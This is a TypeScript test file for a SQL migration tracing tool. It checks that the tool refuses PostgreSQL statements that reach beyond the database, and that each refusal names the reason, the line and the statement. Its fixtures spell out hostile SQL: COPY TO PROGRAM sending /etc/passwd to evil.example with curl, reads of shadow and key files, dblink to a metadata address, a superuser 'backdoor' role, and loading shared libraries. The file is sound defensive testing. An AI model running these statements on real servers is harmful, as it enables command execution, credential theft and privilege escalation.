/**
 * Statements trace refuses to run because they reach outside the traced database (the server's
 * shell and files, other hosts, other sessions, roles, other databases), found in the parse tree of
 * the SQL it is about to send — also inside DO blocks and function bodies. Each refusal names the
 * statement and the line of what was refused. (SQL assembled at run time is not visible here: the
 * role check in server-security.test.ts covers it.)
 */
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseFile } from '../../src/parsers/registry.js';
import { initSqlParser } from '../../src/parsers/sql/parse-sql.js';
import { planMigrations, type TraceStep } from '../../src/trace/plan.js';
import { closePglite, file, stepFor, steps, traceOnPglite } from './helpers.js';

beforeAll(initSqlParser);
afterAll(closePglite);

/** The planned steps of one plain SQL migration file. */
async function planned(sql: string): Promise<TraceStep[]> {
  const migrations = await parseFile(
    { path: 'db/007_hostile.sql', text: sql },
    { assumeInTransaction: false, framework: 'sql', dialect: 'postgresql' },
  );
  return planMigrations(migrations!)[0]!.steps;
}

/** The step that starts on `line` of the file. */
function onLine(all: TraceStep[], line: number): TraceStep {
  const step = all.find((s) => s.span.line === line);
  if (!step) throw new Error(`no step on line ${line}: ${all.map((s) => s.span.line).join(', ')}`);
  return step;
}

const HEAD = 'CREATE TABLE docs (id bigint PRIMARY KEY, body text);\n';

/** [what, the refused statement (it starts on line 2, after HEAD), the reason expected]. */
const REFUSED: [string, string, string, number][] = [
  [
    'COPY … TO PROGRAM',
    "COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd evil.example'",
    'COPY … PROGRAM runs a shell command on the database server',
    2,
  ],
  [
    'COPY … FROM a server file',
    "COPY docs (body) FROM '/etc/passwd'",
    "COPY to or from a file reads or writes files on the database server's file system",
    2,
  ],
  [
    'COPY … TO a server file',
    "COPY docs TO '/var/lib/postgresql/.bashrc'",
    "COPY to or from a file reads or writes files on the database server's file system",
    2,
  ],
  ['ALTER SYSTEM', "ALTER SYSTEM SET archive_command = 'sh -c id'", 'ALTER SYSTEM changes the server configuration', 2],
  [
    'lo_import',
    "SELECT lo_import('/etc/shadow')",
    "lo_import() reads or writes files on the database server's file system",
    2,
  ],
  [
    'lo_export, schema-qualified, in an INSERT',
    "INSERT INTO docs (id, body)\nSELECT 1, pg_catalog.lo_export(42, '/tmp/x')::text",
    "lo_export() reads or writes files on the database server's file system",
    3,
  ],
  [
    'pg_read_file in an UPDATE',
    "UPDATE docs SET body = pg_read_file('/etc/hostname')",
    "pg_read_file() reads or writes files on the database server's file system",
    2,
  ],
  [
    'pg_read_binary_file',
    "SELECT pg_read_binary_file('/etc/ssl/private/server.key')",
    "pg_read_binary_file() reads or writes files on the database server's file system",
    2,
  ],
  [
    'pg_ls_dir in FROM',
    "SELECT * FROM pg_ls_dir('/root') AS f(name)",
    "pg_ls_dir() reads or writes files on the database server's file system",
    2,
  ],
  [
    'pg_stat_file',
    "SELECT (pg_stat_file('/etc/passwd')).size",
    "pg_stat_file() reads or writes files on the database server's file system",
    2,
  ],
  [
    'CREATE SERVER (postgres_fdw)',
    "CREATE SERVER billing FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '10.0.0.5', dbname 'billing')",
    'a foreign server (dblink, postgres_fdw) connects the database server to another host',
    2,
  ],
  [
    'CREATE USER MAPPING',
    "CREATE USER MAPPING FOR CURRENT_USER SERVER billing OPTIONS (user 'app', password 'hunter2')",
    'a user mapping holds the credentials of a connection to another server',
    2,
  ],
  [
    'dblink_connect',
    "SELECT dblink_connect('conn', 'host=169.254.169.254 dbname=x')",
    'dblink_connect() opens a connection from the database server to a host the migration names',
    2,
  ],
  [
    'dblink() in FROM',
    "INSERT INTO docs SELECT * FROM dblink('host=10.0.0.5 dbname=old', 'SELECT id, body FROM docs') AS t(id bigint, body text)",
    'dblink() opens a connection from the database server to a host the migration names',
    2,
  ],
  ['DROP DATABASE', 'DROP DATABASE production', 'trace never drops a database', 2],
  [
    'CREATE ROLE',
    'CREATE ROLE backdoor LOGIN SUPERUSER',
    'roles belong to the whole server, not to the traced database',
    2,
  ],
  [
    'CREATE USER',
    "CREATE USER reporting PASSWORD 'x'",
    'roles belong to the whole server, not to the traced database',
    2,
  ],
  ['ALTER ROLE', 'ALTER ROLE app SUPERUSER', 'roles belong to the whole server, not to the traced database', 2],
  [
    'GRANT a predefined role',
    'GRANT pg_execute_server_program TO app',
    'role membership belongs to the whole server, not to the traced database',
    2,
  ],
  [
    'pg_terminate_backend on other sessions',
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
    'pg_terminate_backend() signals another session of the database server',
    2,
  ],
  [
    'EXECUTE of a literal in a DO block (the line of the EXECUTE)',
    "DO $$\nBEGIN\n  EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch /tmp/pwned''';\nEND $$",
    "COPY … PROGRAM runs a shell command on the database server, in a string a DO block can EXECUTE ('COPY (SELECT 1) TO PROGRAM ''touch /tmp/pwned''')",
    4,
  ],
  [
    'a PL/pgSQL function that keeps the statement in a variable',
    "CREATE FUNCTION rotate() RETURNS void LANGUAGE plpgsql AS $$\nDECLARE cmd text := 'ALTER SYSTEM SET shared_preload_libraries = ''evil''';\nBEGIN\n  EXECUTE cmd;\nEND $$",
    "ALTER SYSTEM changes the server configuration, in a string a function can EXECUTE ('ALTER SYSTEM SET shared_preload_libraries = ''evil''')",
    3,
  ],
  [
    'a PL/pgSQL function calling pg_read_file',
    "CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql AS $$\nBEGIN\n  RETURN pg_read_file('/etc/passwd');\nEND $$",
    "pg_read_file() reads or writes files on the database server's file system, in a function",
    4,
  ],
  [
    'an SQL function calling lo_export',
    "CREATE FUNCTION dump() RETURNS int LANGUAGE sql AS 'SELECT lo_export(1, ''/tmp/x'')'",
    "lo_export() reads or writes files on the database server's file system",
    2,
  ],
  [
    'a BEGIN ATOMIC function calling dblink',
    "CREATE FUNCTION pull() RETURNS bigint LANGUAGE sql\nBEGIN ATOMIC\n  SELECT count(*) FROM dblink('host=10.0.0.5', 'SELECT 1') AS t(x int);\nEND",
    'dblink() opens a connection from the database server to a host the migration names',
    4,
  ],
  [
    'a C function (a shared library from the server file system)',
    "CREATE FUNCTION sys(text) RETURNS int AS '/tmp/evil.so', 'sys' LANGUAGE c",
    'a function in LANGUAGE c runs code in the database server process that trace cannot check',
    2,
  ],
  [
    'an untrusted language',
    'CREATE EXTENSION plpython3u',
    'extension plpython3u: an untrusted language runs arbitrary code in the database server process',
    2,
  ],
  ['LOAD', "LOAD '/tmp/evil.so'", "LOAD loads a shared library from the server's file system", 2],
];

describe('statements trace refuses, with the reason, the line and the statement', () => {
  it.each(REFUSED)('%s', async (_what, statement, why, line) => {
    const all = await planned(`${HEAD}${statement};\nALTER TABLE docs ADD COLUMN title text;\n`);
    const reason = onLine(all, 2).skip?.reason ?? '';
    const head = `not run: ${why} — line ${line}: `;
    expect(reason.slice(0, head.length)).toBe(head);
    // Then the statement, on one line (long ones cut with an ellipsis).
    const shown = reason.slice(head.length);
    const flat = statement.replace(/\s+/g, ' ');
    expect(shown.endsWith('…') ? flat.startsWith(shown.slice(0, -1)) && shown.length > 60 : shown === flat, shown).toBe(
      true,
    );
    // The statements around it still run.
    expect(all.filter((s) => !s.skip).map((s) => s.sql)).toEqual([
      'CREATE TABLE docs (id bigint PRIMARY KEY, body text)',
      'ALTER TABLE docs ADD COLUMN title text',
    ]);
  });

  it.each([
    [
      'ordinary DDL and data changes',
      "ALTER TABLE docs ADD COLUMN title text;\nUPDATE docs SET body = '' WHERE body IS NULL",
    ],
    [
      'a DO block that builds DDL with format()',
      "DO $$\nBEGIN\n  EXECUTE format('ALTER TABLE %I ADD COLUMN %I int', 'docs', 'rank');\nEND $$",
    ],
    [
      'a trigger function',
      'CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.body := lower(NEW.body); RETURN NEW; END $$',
    ],
    ['a trusted extension', 'CREATE EXTENSION IF NOT EXISTS citext'],
    ['a session ending itself', 'SELECT pg_terminate_backend(pg_backend_pid())'],
    ['a string that only mentions COPY', "COMMENT ON TABLE docs IS 'COPY … TO PROGRAM is refused by trace'"],
  ])('not refused: %s', async (_what, sql) => {
    const all = await planned(`${HEAD}${sql};\n`);
    expect(all.filter((s) => s.skip).map((s) => s.skip!.reason)).toEqual([]);
  });
});

describe('refusals in a trace run', () => {
  it('on PGlite: a trace-not-run finding at the line, the rest of the file runs, the host is untouched', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'trace-refused-'));
    const marker = join(dir, 'marker');
    const result = await traceOnPglite([
      file(
        'db/001_docs.sql',
        [
          'CREATE TABLE docs (id bigint PRIMARY KEY, body text);',
          'DO $$',
          'BEGIN',
          `  EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch ${marker}''';`,
          'END $$;',
          "UPDATE docs SET body = pg_read_file('/etc/hostname');",
          'ALTER TABLE docs ADD COLUMN title text;',
        ].join('\n'),
      ),
    ]);
    expect(steps(result).map((r) => [r.step.span.line, r.status])).toEqual([
      [1, 'ok'],
      [2, 'skipped'],
      [6, 'skipped'],
      [7, 'ok'],
    ]);
    const notRun = result.findings.filter((f) => f.rule === 'trace-not-run').map((f) => [f.line, f.message]);
    expect(notRun).toEqual([
      [
        2,
        expect.stringMatching(
          /^Not run: COPY … PROGRAM runs a shell command on the database server, in a string a DO block can EXECUTE \('COPY \(SELECT 1\) TO PROGRAM .*\) — line 4: DO \$\$ BEGIN EXECUTE 'COPY /,
        ),
      ],
      [
        6,
        "Not run: pg_read_file() reads or writes files on the database server's file system — line 6: UPDATE docs SET body = pg_read_file('/etc/hostname')",
      ],
    ]);
    expect(existsSync(marker)).toBe(false);
  });

  it('raw SQL in a knex migration is checked as the SQL trace would send', async () => {
    const result = await traceOnPglite([
      file(
        'migrations/20240101_docs.js',
        [
          'exports.up = async (knex) => {',
          "  await knex.schema.createTable('docs', (t) => { t.bigIncrements('id'); t.text('body'); });",
          '  await knex.raw("SELECT lo_import(\'/etc/passwd\')");',
          '};',
          'exports.down = async () => {};',
        ].join('\n'),
      ),
    ]);
    const refused = stepFor(result, "SELECT lo_import('/etc/passwd')");
    expect(refused.status).toBe('skipped');
    expect(refused.notes[0]).toBe(
      "not run: lo_import() reads or writes files on the database server's file system — line 3: SELECT lo_import('/etc/passwd')",
    );
    expect(steps(result).filter((r) => r.status === 'ok')).toHaveLength(1);
  });
});
